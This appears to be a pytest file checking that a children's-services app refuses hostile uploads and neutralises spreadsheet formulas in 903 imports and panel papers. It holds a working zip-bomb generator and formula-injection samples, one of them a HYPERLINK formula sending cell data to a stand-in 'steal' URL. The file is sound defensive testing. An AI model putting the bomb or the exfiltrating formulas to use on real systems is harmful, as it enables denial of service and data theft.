"""Hostile files: the 903 import (page and API) and the panel papers upload with files that are cut short, wrongly
encoded, too big, archives that would expand to gigabytes, workbooks full of formulas, and CSV cells that are formulas.

Each bad file is refused with a message that says what to do, and nothing is saved. An archive is never opened.
A formula in a cell stays the text it is: stored as typed, shown escaped, exported neutralised.
"""

from __future__ import annotations

import html
import io
import re
import struct
import zipfile
import zlib
from datetime import date

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from adoption.models import Job, JobInput
from children.models import Child
from children.ssda903 import reader
from panels import services as panel_services
from panels.models import AgendaPaper, PaperKind
from tests.panels.test_agenda import add, at, awaiting_panel, pdf
from tests.panels.test_agenda import panel as panel  # the fixture, for the papers' tests
from tests.ssda903.test_import_journeys import _good_files, _upload, table_counts

pytestmark = pytest.mark.django_db

UPLOAD = "/ssda903/imports/"
API = "/api/v1/ssda903/imports/"
HEADER = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\n"
GIB = 1024**3


# --- the hostile files --------------------------------------------------------------------------------------------


def zip_bomb(member: str, size: int = 3 * GIB) -> bytes:
    """A ZIP of about 3 MB whose one member expands to ``size`` bytes of zeros (3 GiB unless told).

    Built by hand from one deflated mebibyte repeated (each copy ends on a full flush, so copies can follow each
    other), so making it takes a moment, not the minutes compressing gigabytes would."""
    mebibyte = b"\0" * (1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(mebibyte) + packer.flush(zlib.Z_FULL_FLUSH)
    copies = size // len(mebibyte)
    data = block * copies + b"\x03\x00"  # an empty final block ends the stream
    crc = 0
    for _ in range(copies):
        crc = zlib.crc32(mebibyte, crc)
    name = member.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0) + name
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0
        )
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb("xl/worksheets/sheet1.xml")


def formula_workbook() -> bytes:
    """An XLSX whose cells are formulas (the 903 Header's columns, a child whose every value is a formula)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER.strip().split(","))
    sheet.append(['=HYPERLINK("http://example.com/steal?d="&B2,"1001")', "=1+1", "=TODAY()", "+cmd", "-1+1", "@SUM(1)"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


GOOD_HEADER = HEADER + "1001,F,01/05/2021,WBRI,UN1,,\r\n1002,M,03/02/2020,WBRI,UN1,,\r\n"
XML = (
    '<?xml version="1.0" encoding="UTF-8"?><Message><Children><CHILD><HEADER><CHILDID>1001</CHILDID><SEX>F</SEX>'
    "<DOB>01/05/2021</DOB><ETHNIC>WBRI</ETHNIC></HEADER><EPISODE><DECOM>01/01/2022</DECOM><RNE>S</RNE><LS>C2</LS>"
    "<CIN>N1</CIN><PL>U6</PL></EPISODE></CHILD></Children></Message>"
)
# Bytes that are neither text nor any known kind of file (a NUL among them), as a file renamed .csv would be.
BINARY = bytes(range(256)) * 8


def hostile_files(bomb: bytes) -> dict[str, tuple[str, bytes, str, str]]:
    """case -> (file name, content, the problem's rule, words of the message that say what to do)."""
    return {
        "CSV cut mid-row": (
            "header.csv",
            GOOD_HEADER.encode()[:-12],
            reader.ROW_SHAPE,
            "the file may be cut short. Export it again",
        ),
        "CSV cut inside a quoted value": (
            "header.csv",
            (HEADER + '1001,F,01/05/2021,WBRI,"UN1').encode(),
            reader.FILE_UNREADABLE,
            "a quoted value is not closed, so the file may be cut short or damaged. Export it again",
        ),
        "XML cut mid-tag": (
            "return.xml",
            XML.encode()[: XML.index("<EPISODE>") + 4],
            reader.FILE_UNREADABLE,
            "so the file may be cut short or damaged. Export it again",
        ),
        "UTF-16": ("header.csv", GOOD_HEADER.encode("utf-16"), reader.FILE_ENCODING, "save it again as 'CSV UTF-8"),
        "Latin-1 with bytes invalid in UTF-8": (
            "header.csv",
            (HEADER + "1001,F,01/05/2021,WBRI,UN1,Zoë Doré,\r\n").encode("latin-1"),
            reader.FILE_ENCODING,
            "not UTF-8 text (it may have been saved as 'CSV' or in another encoding): open it and save it again as "
            "'CSV UTF-8",
        ),
        "binary file named .csv": ("header.csv", BINARY, reader.FILE_ENCODING, "not a text file: save it"),
        "ZIP bomb named .csv": ("header.csv", bomb, reader.FILE_ENCODING, "save each 903 table as 'CSV UTF-8"),
        "ZIP bomb named .xml": ("return.xml", bomb, reader.FILE_ENCODING, "save each 903 table as 'CSV UTF-8"),
        "ZIP bomb named .xlsx": ("header.xlsx", bomb, reader.FILE_ENCODING, "save each 903 table as 'CSV UTF-8"),
        "XLSX of formulas": ("header.xlsx", formula_workbook(), reader.FILE_ENCODING, "(XLSX)"),
        "XLSX of formulas named .csv": ("header.csv", formula_workbook(), reader.FILE_ENCODING, "(XLSX)"),
        "old Excel workbook named .csv": (
            "header.csv",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + BINARY,
            reader.FILE_ENCODING,
            "(XLS), not CSV",
        ),
        "PDF named .xml": ("return.xml", b"%PDF-1.7\n" + BINARY, reader.FILE_ENCODING, "a PDF, not CSV or XML"),
    }


CASES = list(hostile_files(b""))
# Refused as soon as they are uploaded (before a job or a stored file): the files that are not 903 text at all.
REFUSED_AT_UPLOAD = [c for c in CASES if not c.startswith(("CSV cut", "XML cut"))]


@pytest.fixture
def no_unpacking(monkeypatch) -> list[str]:
    """Every attempt to open an archive or a workbook for reading, recorded (there must be none)."""
    opened: list[str] = []
    real_init = zipfile.ZipFile.__init__

    def recording_init(self, file, mode="r", *args, **kwargs):
        if mode == "r":
            opened.append(f"ZipFile({getattr(file, 'name', type(file).__name__)})")
        real_init(self, file, mode, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "__init__", recording_init)
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append("load_workbook"))
    return opened


def test_the_zip_bomb_is_small_and_would_expand_to_gigabytes(bomb):
    assert len(bomb) < 4 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        (member,) = archive.infolist()
        assert member.file_size == 3 * GIB
        with archive.open(member) as unpacked:
            assert unpacked.read(1024 * 1024) == b"\0" * 1024 * 1024


# --- the 903 reader -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", CASES)
def test_the_903_reader_refuses_each_hostile_file_with_a_plain_message(case, bomb, no_unpacking):
    name, content, rule, words = hostile_files(bomb)[case]
    tables = reader.read_upload([(name, content)])
    found = [p for p in tables.problems if p.rule == rule and p.file == name]
    assert found, [p.as_dict() for p in tables.problems]
    assert found[0].blocking and tables.blocking
    assert words in found[0].message
    assert no_unpacking == []


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(settings):
    """The 903 import's limit per file is the service's one upload limit (UPLOAD_MAX_BYTES), as for panel papers."""
    settings.UPLOAD_MAX_BYTES = 20 * 1024 * 1024
    over = [("episodes.csv", b"x" * (20 * 1024 * 1024 + 1))]
    (problem,) = reader.read_upload(over).problems
    assert (problem.rule, problem.file) == (reader.FILE_SIZE, "episodes.csv")
    assert problem.message.startswith("The file is larger than 20 MB: upload each 903 table as its own CSV file")
    # 11 MB is within it (the import once had a lower limit of its own, 10 MB).
    within = reader.read_upload([("episodes.csv", b"x" * (11 * 1024 * 1024))]).problems
    assert not [p for p in within if p.message.startswith("The file is larger than")]
    settings.UPLOAD_MAX_BYTES = 2048
    (problem,) = reader.read_upload([("header.csv", GOOD_HEADER.encode() * 40)]).problems
    assert problem.message.startswith("The file is larger than 2 KB")


def test_formula_cells_of_a_903_csv_are_read_as_the_text_they_are():
    text = HEADER + '=1+2,F,01/05/2021,WBRI,"=HYPERLINK(""http://x"",""y"")",+cmd,@SUM(1)\r\n'
    tables = reader.read_upload([("header.csv", text.encode())])
    (row,) = tables.rows["Header"]
    assert row.values["CHILD"] == "=1+2"
    assert row.values["UPN"] == '=HYPERLINK("HTTP://X","Y")'  # upper-cased as UPNs are, never evaluated
    assert (row.values["MOTHER"], row.values["MC_DOB"]) == ("+cmd", "@SUM(1)")


# --- the 903 import page and API -------------------------------------------------------------------------------------


def _page_text(response) -> str:
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode())))


@pytest.mark.parametrize("case", REFUSED_AT_UPLOAD)
def test_the_import_page_refuses_a_file_that_is_not_903_text_and_saves_nothing(
    case, bomb, client, social_worker_a, la_a, no_unpacking, django_capture_on_commit_callbacks
):
    name, content, _rule, words = hostile_files(bomb)[case]
    client.force_login(social_worker_a)
    before = table_counts()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(UPLOAD, {"la": la_a.pk, "uploads": [SimpleUploadedFile(name, content)]})
    assert response.status_code == 400
    page = _page_text(response)
    assert "There is a problem" in page
    assert f"{name}: " in page and words in page
    assert table_counts() == before
    assert no_unpacking == []


def test_the_import_page_refuses_a_file_over_the_size_limit(client, social_worker_a, la_a, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    client.force_login(social_worker_a)
    before = table_counts()
    upload = SimpleUploadedFile("header.csv", GOOD_HEADER.encode() * 20)
    response = client.post(UPLOAD, {"la": la_a.pk, "uploads": [upload]})
    assert response.status_code == 400
    assert "header.csv: The file is larger than 1 KB: upload each 903 table" in _page_text(response)
    assert table_counts() == before


@pytest.mark.parametrize("case", ["CSV cut mid-row", "XML cut mid-tag"])
def test_a_file_cut_short_is_shown_in_the_preview_and_cannot_be_imported(
    case, client, social_worker_a, la_a, django_capture_on_commit_callbacks
):
    name, content, _rule, words = hostile_files(b"")[case]
    client.force_login(social_worker_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(UPLOAD, {"la": la_a.pk, "uploads": [SimpleUploadedFile(name, content)]})
    assert response.status_code == 302
    page = _page_text(client.get(response["Location"]))
    assert "The files cannot be imported" in page and "Nothing has been changed" in page
    assert words in page
    assert "Import these changes" not in page
    assert not Child.objects.exists()


@pytest.mark.parametrize("case", ["ZIP bomb named .csv", "XLSX of formulas", "UTF-16"])
def test_the_api_refuses_a_file_that_is_not_903_text_with_the_error_shape(
    case, bomb, client, api_client_a, no_unpacking
):
    _, token = api_client_a
    name, content, _rule, words = hostile_files(bomb)[case]
    before = table_counts()
    response = client.post(
        API, {"files": [SimpleUploadedFile(name, content)]}, headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 400
    body = response.json()
    assert body["message"] == "The request has invalid fields."
    (message,) = body["extra"]["fields"]["files"]
    assert message.startswith(f"{name}: ") and words in message
    # Nothing saved: no job, no stored file, no child (an API call is itself audited).
    assert {k for k, v in table_counts().items() if v != before[k]} <= {"adoption.AuditEvent"}
    assert no_unpacking == []


def test_the_api_refuses_a_file_over_the_size_limit(client, api_client_a, settings):
    _, token = api_client_a
    settings.UPLOAD_MAX_BYTES = 1024
    upload = SimpleUploadedFile("header.csv", GOOD_HEADER.encode() * 20)
    response = client.post(API, {"files": [upload]}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 400
    assert response.json()["extra"]["fields"]["files"] == [
        "header.csv: The file is larger than 1 KB: upload each 903 table as its own CSV file, or ask your system "
        "administrator about a larger return"
    ]
    assert not Job.objects.exists() and not JobInput.objects.exists()


def test_formula_ids_are_imported_as_text_shown_escaped_and_exported_neutralised(
    client, social_worker_a, la_a, django_capture_on_commit_callbacks
):
    tables = _good_files()
    formulas = {"1001": "=1+2", "1002": "@SUM(1)"}
    for rows in tables.values():
        for row in rows:
            row["CHILD"] = formulas[row["CHILD"]]
    files = [SimpleUploadedFile(name, content) for name, content in _upload(tables)]
    client.force_login(social_worker_a)
    with django_capture_on_commit_callbacks(execute=True):
        preview = client.post(UPLOAD, {"la": la_a.pk, "uploads": files})
    assert preview.status_code == 302, _page_text(preview)
    with django_capture_on_commit_callbacks(execute=True):
        applied = client.post(preview["Location"])
    assert "903 import complete" in _page_text(client.get(applied["Location"]))

    child = Child.objects.get(responsible_la=la_a, child_903_id="=1+2")  # stored as typed, never evaluated
    assert Child.objects.filter(responsible_la=la_a, child_903_id="@SUM(1)").exists()
    assert "=1+2" in _page_text(client.get(reverse("children:detail", args=[child.pk])))

    export = client.get(reverse("children:export")).content.decode("utf-8-sig")
    assert "'=1+2" in export and "'@SUM(1)" in export
    assert not re.search(r"(^|,)[=+\-@\t\r]", export.replace("\r\n", "\n"), flags=re.MULTILINE)


def test_markup_in_a_903_value_is_shown_escaped_in_the_preview(
    client, social_worker_a, la_a, django_capture_on_commit_callbacks
):
    text = HEADER + '1001,F,"=HYPERLINK(""http://x"",""<b>click</b>"")",WBRI,UN1,,\r\n'
    client.force_login(social_worker_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(UPLOAD, {"la": la_a.pk, "uploads": [SimpleUploadedFile("header.csv", text.encode())]})
    body = client.get(response["Location"]).content.decode()
    assert "DOB &#x27;=HYPERLINK(&quot;http://x&quot;,&quot;&lt;b&gt;click&lt;/b&gt;&quot;)&#x27; is not a real" in body
    assert "<b>click</b>" not in body


# --- panel papers -----------------------------------------------------------------------------------------------------


def _papers(bomb: bytes) -> dict[str, tuple[str, bytes, str]]:
    """case -> (file name, content, words of the message)."""
    whole = pdf(2).read()
    return {
        "ZIP bomb named .pdf": ("par.pdf", bomb, "The file must be a PDF: this is a Word or Excel document, or a ZIP"),
        "XLSX of formulas named .pdf": (
            "par.pdf",
            formula_workbook(),
            "The file must be a PDF: this is a Word or Excel",
        ),
        "old Word document": (
            "par.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + BINARY,
            "this is an older Word or Excel",
        ),
        "UTF-16 text named .pdf": ("par.pdf", "Prospective adopter's report".encode("utf-16"), "save the paper as PDF"),
        "binary file named .pdf": ("par.pdf", BINARY, "The file must be a PDF: save the paper as PDF and upload that"),
        "PDF cut short": (
            "par.pdf",
            whole[: len(whole) // 3],
            "The PDF cannot be read: it may be damaged. Save it again",
        ),
    }


@pytest.mark.parametrize("case", list(_papers(b"")))
def test_a_panel_paper_that_is_not_a_whole_pdf_is_refused_and_nothing_is_saved(
    case,
    bomb,
    client,
    raa,
    panel,
    panel_adviser,
    no_unpacking,
):
    item = add(panel_adviser, panel, awaiting_panel(raa))
    name, content, words = _papers(bomb)[case]
    with at(date(2026, 11, 23)):
        client.force_login(panel_adviser)
        before = table_counts()
        response = client.post(
            reverse("panels:paper-upload", args=[item.pk]),
            {"kind": PaperKind.PAR, "title": "", "upload": SimpleUploadedFile(name, content)},
        )
    assert response.status_code in (200, 400)
    assert words in _page_text(response)
    assert not AgendaPaper.objects.exists()
    assert {k for k, v in table_counts().items() if v != before[k]} <= {"adoption.AuditEvent"}
    assert no_unpacking == []


def test_a_panel_paper_over_the_size_limit_is_refused(client, raa, panel, panel_adviser, settings):
    settings.UPLOAD_MAX_BYTES = 600
    item = add(panel_adviser, panel, awaiting_panel(raa))
    paper = pdf(3)
    assert paper.size > 600
    with at(date(2026, 11, 23)):
        client.force_login(panel_adviser)
        page = client.get(reverse("panels:paper-upload", args=[item.pk]))
        assert "A PDF smaller than 600 bytes" in _page_text(page)
        response = client.post(
            reverse("panels:paper-upload", args=[item.pk]), {"kind": PaperKind.PAR, "title": "", "upload": paper}
        )
    assert "The file is larger than 600 bytes: save the paper as a smaller PDF" in _page_text(response)
    assert not AgendaPaper.objects.exists()


def test_the_paper_service_holds_to_the_same_one_upload_limit(raa, panel, panel_adviser, settings):
    """Whatever calls it (not only the page's form), the service refuses a paper over UPLOAD_MAX_BYTES, in MB."""
    item = add(panel_adviser, panel, awaiting_panel(raa))
    settings.UPLOAD_MAX_BYTES = 2 * 1024 * 1024
    big = SimpleUploadedFile("par.pdf", b"%PDF-1.4\n" + b"0" * (2 * 1024 * 1024))
    with at(date(2026, 11, 23)), pytest.raises(ValidationError) as refused:
        panel_services.agenda_paper_upload(actor=panel_adviser, item_id=item.pk, kind=PaperKind.PAR, upload=big)
    assert refused.value.message_dict == {"file": ["The file is larger than 2 MB"]}
    assert not AgendaPaper.objects.exists()
